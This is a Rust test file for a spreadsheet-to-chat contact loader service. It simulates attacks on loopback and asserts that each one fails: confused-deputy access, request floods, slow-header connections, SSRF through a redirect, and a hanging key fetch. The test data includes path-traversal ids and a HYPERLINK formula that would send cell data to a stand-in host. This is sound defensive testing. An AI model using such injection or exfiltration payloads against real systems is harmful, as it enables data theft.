//! `serve` tried as an attacker would, on loopback: a confused deputy, a squatter, a flood,
//! slow and idle connections, a target that redirects or answers with a formula, a JWKS
//! endpoint that hangs. Each attack must fail, black-box against a running server where
//! the point is black-box.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use axum::http::{Method, StatusCode};
use axum::response::IntoResponse;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use contact_loader::serve::config::{ApiKey, Limits};
use contact_loader::serve::{Config, Server};
use contact_loader::targets::chat2desk::sandbox::{Sandbox, SandboxConfig};
use support::fake_sheets::FakeSheets;

mod support;

use support::oidc::{jwks, signing_key, token};

const CLIENT_ID: &str = "1234-addon.apps.googleusercontent.com";
/// The victim's spreadsheet (Ann owns it; she shared it with Bob and the service account).
const VICTIM: &str = "1Victim_spreadsheet_of_ann";
const MALLORY_OWN: &str = "1Mallory_own_spreadsheet";
const SHEET: &str = "Клиенты";
const ANN_TOKEN: &str = "ya29.ann";
const BOB_TOKEN: &str = "ya29.bob";
const MALLORY_TOKEN: &str = "ya29.mallory";
const KEY: &str = "ops-0123456789abcdef";

fn rows(count: usize) -> Vec<Vec<String>> {
    let mut rows = vec![vec!["Контакт".to_owned(), "Имя".to_owned()]];
    rows.extend((0..count).map(|i| vec![format!("+7 999 51{i:05}"), format!("Клиент {i}")]));
    rows
}

fn id_token(sub: &str) -> String {
    support::oidc::id_token(sub, CLIENT_ID)
}

fn config(dir: &std::path::Path, sheets: &FakeSheets) -> Config {
    Config {
        listen: SocketAddr::from(([127, 0, 0, 1], 0)),
        database: dir.join("serve.sqlite").display().to_string(),
        sealing_key: "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=".to_owned(),
        api_keys: vec![ApiKey {
            name: "ops".to_owned(),
            key: KEY.to_owned(),
            spreadsheets: Vec::new(),
        }],
        sheets_url: sheets.url(),
        rate: 300.0,
        sheets_min_interval_ms: 10,
        ..Config::default()
    }
}

fn job(spreadsheet: &str, sheet: &str, target: &str, sheets_token: Option<&str>) -> Value {
    let mut job = json!({
        "spreadsheet_id": spreadsheet,
        "sheet": sheet,
        "mode": "load",
        "target": {"kind": "chat2desk", "token": "sandbox-token", "base_url": target,
                   "channel": "Продажи", "transport": "whatsapp"},
    });
    if let Some(token) = sheets_token {
        job["sheets_token"] = json!(token);
    }
    job
}

async fn post(
    api: &str,
    bearer: &str,
    body: &Value,
) -> (StatusCode, reqwest::header::HeaderMap, Value) {
    let answer = reqwest::Client::new()
        .post(format!("{api}/v1/jobs"))
        .bearer_auth(bearer)
        .json(body)
        .send()
        .await
        .unwrap();
    let (status, headers) = (answer.status(), answer.headers().clone());
    (status, headers, answer.json().await.unwrap_or(Value::Null))
}

async fn wait_for_end(api: &str, bearer: &str, job_id: &str) -> Value {
    support::wait_for_job(
        &format!("{api}/v1/jobs/{job_id}"),
        bearer,
        Duration::from_secs(60),
    )
    .await
}

async fn report(api: &str, bearer: &str, job_id: &str) -> String {
    support::get_text(&format!("{api}/v1/jobs/{job_id}/report.csv"), bearer).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_one_loads_or_claims_a_sheet_they_cannot_open() {
    let sandbox = support::slow_sandbox(Duration::from_millis(30)).await;
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    sheets.set_cells(VICTIM, SHEET, rows(40));
    sheets.set_cells(MALLORY_OWN, SHEET, rows(1));
    sheets.add_user(BOB_TOKEN, &[VICTIM]);
    sheets.add_user(MALLORY_TOKEN, &[MALLORY_OWN]);
    let dir = tempfile::tempdir().unwrap();
    let key_file =
        support::service_account_key(&sheets, "loader@p.iam.gserviceaccount.com", dir.path());
    sheets.share(VICTIM);
    let mut config = config(dir.path(), &sheets);
    config.google_client_ids = vec![CLIENT_ID.to_owned()];
    config.google_jwks_url = jwks().await;
    config.google_service_account_key = Some(key_file.display().to_string());
    config.target_base_urls = vec![sandbox.url()];
    let server = Server::start(config).await.unwrap();
    let api = server.url();
    let before = sheets.cells(VICTIM, SHEET).unwrap();

    // A job for the victim's sheet, sent by `who` with a Google token (or none).
    let target = sandbox.url();
    let submit = async |who: &str, token: Option<&str>| {
        post(&api, &id_token(who), &job(VICTIM, SHEET, &target, token)).await
    };

    // The confused deputy: Mallory knows the victim's spreadsheet id, which is shared with
    // the service account. Without a token of her own she gets nothing done…
    let (status, _, answer) = submit("mallory", None).await;
    assert_eq!(status, 422, "{answer}");
    assert!(answer["error"].as_str().unwrap().contains("sheets_token"));
    assert_eq!(answer["code"], "invalid_request");
    // Nor a target of her choosing: the server calls only the hosts it lists.
    let elsewhere = job(VICTIM, SHEET, "http://127.0.0.1:1", Some(MALLORY_TOKEN));
    let (status, _, answer) = post(&api, &id_token("mallory"), &elsewhere).await;
    assert_eq!(
        (status, answer["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("base_url_not_allowed")
        ),
        "{answer}"
    );
    // …and her own token does not open it.
    let (status, _, answer) = submit("mallory", Some(MALLORY_TOKEN)).await;
    assert_eq!(status, 403, "{answer}");
    assert!(
        answer["error"].as_str().unwrap().contains("cannot open"),
        "{answer}"
    );
    assert_eq!(answer["code"], "forbidden");
    // A key that lists no spreadsheet cannot send the service account either.
    let (status, _, answer) = post(&api, KEY, &job(VICTIM, SHEET, &target, None)).await;
    assert_eq!(status, 403, "{answer}");

    // Ann's own job holds the sheet.
    let (status, _, ann) = submit("ann", Some(ANN_TOKEN)).await;
    assert_eq!(status, 202, "{ann}");
    let ann_job = ann["job_id"].as_str().unwrap().to_owned();
    // Bob can open the sheet too: he is told it is taken, not by which job.
    let (status, _, answer) = submit("bob", Some(BOB_TOKEN)).await;
    assert_eq!(status, 409, "{answer}");
    assert_eq!(answer["code"], "sheet_busy");
    assert!(
        answer.get("job_id").is_none() && !answer.to_string().contains(&ann_job),
        "{answer}"
    );
    // Mallory cannot open it: she is not even told that it is taken.
    let (status, _, answer) = submit("mallory", Some(MALLORY_TOKEN)).await;
    assert_eq!(status, 403, "{answer}");
    // Ann pressing again sees her job.
    let (status, _, again) = submit("ann", Some(ANN_TOKEN)).await;
    assert_eq!(
        (status, again["job_id"].as_str()),
        (StatusCode::OK, Some(ann_job.as_str()))
    );

    let done = wait_for_end(&api, &id_token("ann"), &ann_job).await;
    assert_eq!(done["state"], "done", "{done}");
    assert_eq!(
        sandbox.clients().len(),
        40,
        "only Ann's job loaded anything"
    );
    let after = sheets.cells(VICTIM, SHEET).unwrap();
    assert_eq!(after.len(), before.len());
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_submits_meets_its_limits() {
    // A slow target keeps jobs live.
    let sandbox = support::slow_sandbox(Duration::from_millis(500)).await;
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    for n in 0..8 {
        sheets.set_cells(VICTIM, &format!("Лист {n}"), rows(30));
    }
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path(), &sheets);
    config.allow_other_hosts = true;
    config.limits = Limits {
        live_jobs_per_owner: 2,
        submits_per_minute: 5,
        ..Limits::default()
    };
    let server = Server::start(config).await.unwrap();
    let api = server.url();
    let sheet = |n: usize| {
        job(
            VICTIM,
            &format!("Лист {n}"),
            &sandbox.url(),
            Some(ANN_TOKEN),
        )
    };

    for n in 0..2 {
        assert_eq!(post(&api, KEY, &sheet(n)).await.0, 202);
    }
    // Two live jobs: the third waits, told when to come back.
    for n in 2..5 {
        let (status, headers, answer) = post(&api, KEY, &sheet(n)).await;
        assert_eq!(status, 429, "{answer}");
        assert!(
            answer["error"]
                .as_str()
                .unwrap()
                .contains("queued or running"),
            "{answer}"
        );
        assert!(headers.get("retry-after").is_some());
    }
    // The minute's five submits are spent: the sixth is refused before anything else.
    let (status, headers, answer) = post(&api, KEY, &sheet(5)).await;
    assert_eq!(status, 429, "{answer}");
    assert!(
        answer["error"].as_str().unwrap().contains("short time"),
        "{answer}"
    );
    let wait: u64 = headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");

    // Nothing unbounded reaches the store.
    let database = dir.path().join("serve.sqlite");
    let size = || {
        std::fs::metadata(&database).unwrap().len()
            + std::fs::metadata(dir.path().join("serve.sqlite-wal")).map_or(0, |m| m.len())
    };
    let grown_from = size();
    let huge = "Л".repeat(1_000_000);
    for _ in 0..5 {
        let answer = reqwest::Client::new()
            .post(format!("{api}/v1/jobs"))
            .bearer_auth(KEY)
            .json(&sheet(0).as_object().cloned().map(|mut o| {
                o.insert("sheet".into(), json!(huge));
                o
            }))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), 413);
    }
    assert!(size() < grown_from + 100_000, "the store did not grow");
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fields_outside_google_s_forms_are_refused() {
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path(), &sheets);
    config.allow_other_hosts = true;
    let server = Server::start(config).await.unwrap();
    let api = server.url();
    let long_tag = "t".repeat(201);
    for (id, name, tags) in [
        ("1Victim/../other_spreadsheet", SHEET, json!([])),
        ("1Victim_spreadsheet_of_ann%2F..", SHEET, json!([])),
        (VICTIM, "Клиенты\nКлиенты", json!([])),
        (VICTIM, "\u{7}", json!([])),
        (VICTIM, SHEET, json!([long_tag])),
        (VICTIM, SHEET, json!(vec!["vip"; 51])),
    ] {
        let mut body = job(id, name, "http://127.0.0.1:9", Some(ANN_TOKEN));
        body["target"]["tags"] = tags;
        let (status, _, answer) = post(&api, KEY, &body).await;
        assert_eq!(status, 422, "{id:?} {name:?}: {answer}");
    }
    assert_eq!(sheets.stats().total, 0, "nothing reached Google");
    server.stop().await;
}

/// Reads until the server closes the connection (or `limit` passes): what it sent.
async fn until_closed(stream: &mut tokio::net::TcpStream, limit: Duration) -> Option<String> {
    let mut seen = Vec::new();
    let mut buffer = [0u8; 1024];
    let read = tokio::time::timeout(limit, async {
        loop {
            match stream.read(&mut buffer).await {
                Ok(0) | Err(_) => return,
                Ok(n) => seen.extend_from_slice(&buffer[..n]),
            }
        }
    })
    .await;
    read.ok()
        .map(|()| String::from_utf8_lossy(&seen).into_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_and_idle_connections_are_closed_and_connections_are_capped() {
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path(), &sheets);
    config.limits = Limits {
        header_timeout_seconds: 1,
        connections: 2,
        ..Limits::default()
    };
    let server = Server::start(config).await.unwrap();
    let addr = server.addr();

    // Idle: connected, nothing sent.
    let mut idle = tokio::net::TcpStream::connect(addr).await.unwrap();
    assert!(
        until_closed(&mut idle, Duration::from_secs(10))
            .await
            .is_some(),
        "an idle connection is closed"
    );

    // Slow: one header line now and then, never the end of the headers.
    let mut slow = tokio::net::TcpStream::connect(addr).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let dripping = async {
        for n in 0..40 {
            tokio::time::sleep(Duration::from_millis(250)).await;
            if slow
                .write_all(format!("X-Drip-{n}: y\r\n").as_bytes())
                .await
                .is_err()
            {
                return true;
            }
        }
        false
    };
    assert!(
        dripping.await,
        "a connection dripping its headers is closed"
    );

    // Kept alive after an answer, then idle: closed too.
    let mut kept = tokio::net::TcpStream::connect(addr).await.unwrap();
    kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let seen = until_closed(&mut kept, Duration::from_secs(10))
        .await
        .expect("closed after idling");
    assert!(seen.starts_with("HTTP/1.1 200"), "{seen}");

    // Two connections held open: a third waits until one goes.
    let held = [
        tokio::net::TcpStream::connect(addr).await.unwrap(),
        tokio::net::TcpStream::connect(addr).await.unwrap(),
    ];
    tokio::time::sleep(Duration::from_millis(100)).await;
    let healthz = format!("http://{addr}/healthz");
    let quick = reqwest::Client::builder()
        .timeout(Duration::from_millis(300))
        .build()
        .unwrap();
    assert!(
        quick.get(&healthz).send().await.is_err(),
        "the cap holds the third back"
    );
    drop(held);
    let answer = reqwest::get(&healthz).await.unwrap();
    assert_eq!(answer.status(), 200);
    server.stop().await;
}

/// A target behind `rule`: the sandbox, except where the rule answers itself.
async fn target_answering(rule: Box<support::Rule>) -> (Sandbox, String) {
    let sandbox = support::sandbox(SandboxConfig::default()).await;
    let url = support::proxy(sandbox.url(), rule).await;
    (sandbox, url)
}

/// A server, one job of three rows against `target`, run to its end: the server, the job's
/// id and its state (and the folder of the server's store, which must outlive it).
async fn one_job_against(target: &str) -> (Server, String, Value, tempfile::TempDir) {
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    sheets.set_cells(VICTIM, SHEET, rows(3));
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path(), &sheets);
    config.allow_other_hosts = true;
    let server = Server::start(config).await.unwrap();
    let api = server.url();
    let (status, _, answer) = post(&api, KEY, &job(VICTIM, SHEET, target, Some(ANN_TOKEN))).await;
    assert_eq!(status, 202, "{answer}");
    let id = answer["job_id"].as_str().unwrap().to_owned();
    let done = wait_for_end(&api, KEY, &id).await;
    (server, id, done, dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_target_s_redirect_is_not_followed() {
    // An internal service the redirect points at, counting who comes.
    let hits = Arc::new(AtomicU64::new(0));
    let internal = {
        let hits = hits.clone();
        let app = axum::Router::new().fallback(move || {
            let hits = hits.clone();
            async move {
                hits.fetch_add(1, Ordering::SeqCst);
                "internal secret: the admin password is hunter2"
            }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await });
        format!("http://{addr}/steal")
    };
    let (sandbox, target) = target_answering(Box::new(move |method: &Method, path: &str| {
        (method == Method::POST && path == "/v1/clients").then(|| {
            (
                StatusCode::TEMPORARY_REDIRECT,
                [(axum::http::header::LOCATION, internal.clone())],
            )
                .into_response()
        })
    }))
    .await;
    let (server, id, done, _dir) = one_job_against(&target).await;
    assert_eq!(done["state"], "done", "{done}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the redirect was not followed"
    );
    assert!(sandbox.clients().is_empty());
    let report = report(&server.url(), KEY, &id).await;
    assert!(
        report.contains("307") && report.contains("redirect"),
        "{report}"
    );
    assert!(!report.contains("hunter2"));
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_target_s_message_worded_as_a_formula_stays_text_in_the_report() {
    const FORMULA: &str = r#"=HYPERLINK("http://x/?"&A1,"click")"#;
    let (_sandbox, target) = target_answering(Box::new(|method: &Method, path: &str| {
        (method == Method::POST && path == "/v1/clients").then(|| {
            (
                StatusCode::BAD_REQUEST,
                axum::Json(json!({"status": "error", "message": FORMULA})),
            )
                .into_response()
        })
    }))
    .await;
    let (server, id, done, _dir) = one_job_against(&target).await;
    assert_eq!(done["state"], "done", "{done}");
    let report = report(&server.url(), KEY, &id).await;
    let records = support::csv_records(&report, b',');
    let reasons: Vec<&str> = records[1..].iter().map(|r| r[2].as_str()).collect();
    assert_eq!(reasons, vec![format!("'{FORMULA}"); 3], "{report}");
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_key_fetch_stalls_no_sign_in_and_is_made_once() {
    use contact_loader::serve::auth::Oidc;
    // Google's keys, answered at once the first time and then only after a long wait.
    let fetches = Arc::new(AtomicU64::new(0));
    let url = {
        let fetches = fetches.clone();
        let set = support::oidc::key_set();
        let app = axum::Router::new().route(
            "/certs",
            axum::routing::get(move || {
                let (fetches, set) = (fetches.clone(), set.clone());
                async move {
                    if fetches.fetch_add(1, Ordering::SeqCst) > 0 {
                        tokio::time::sleep(Duration::from_secs(20)).await;
                    }
                    axum::Json(set)
                }
            }),
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await });
        format!("http://{addr}/certs")
    };
    let oidc =
        Arc::new(Oidc::new(&url, vec![CLIENT_ID.to_owned()]).refetching_after(Duration::ZERO));
    assert_eq!(oidc.verify(&id_token("ann")).await.unwrap(), "ann");

    // A stream of tokens with a key id Google does not publish: one fetch, which hangs.
    let unknown = token(
        "x",
        CLIENT_ID,
        "https://accounts.google.com",
        3600,
        &signing_key(),
        "rotated-away",
    );
    let waiting: Vec<_> = (0..10)
        .map(|_| {
            let (oidc, unknown) = (oidc.clone(), unknown.clone());
            tokio::spawn(async move { oidc.verify(&unknown).await })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(200)).await;
    // Meanwhile the known key signs people in.
    let known = tokio::time::timeout(Duration::from_secs(5), oidc.verify(&id_token("bob"))).await;
    assert_eq!(known.expect("not stalled by the fetch").unwrap(), "bob");
    assert_eq!(
        fetches.load(Ordering::SeqCst),
        2,
        "one fetch for all ten unknown ids"
    );
    for task in waiting {
        task.abort();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sheet_over_the_row_cap_fails_with_what_to_do() {
    let sheets = FakeSheets::start(ANN_TOKEN).await.unwrap();
    sheets.set_cells(VICTIM, SHEET, rows(12));
    let dir = tempfile::tempdir().unwrap();
    let mut config = config(dir.path(), &sheets);
    config.allow_other_hosts = true;
    config.limits.rows_per_job = 10;
    let server = Server::start(config).await.unwrap();
    let api = server.url();
    let (status, _, answer) = post(
        &api,
        KEY,
        &job(VICTIM, SHEET, "http://127.0.0.1:9", Some(ANN_TOKEN)),
    )
    .await;
    assert_eq!(status, 202, "{answer}");
    let done = wait_for_end(&api, KEY, answer["job_id"].as_str().unwrap()).await;
    assert_eq!(done["state"], "failed", "{done}");
    let error = done["error"].as_str().unwrap();
    assert!(
        error.contains("12 rows") && error.contains("at most 10") && error.contains("split"),
        "{error}"
    );
    server.stop().await;
}
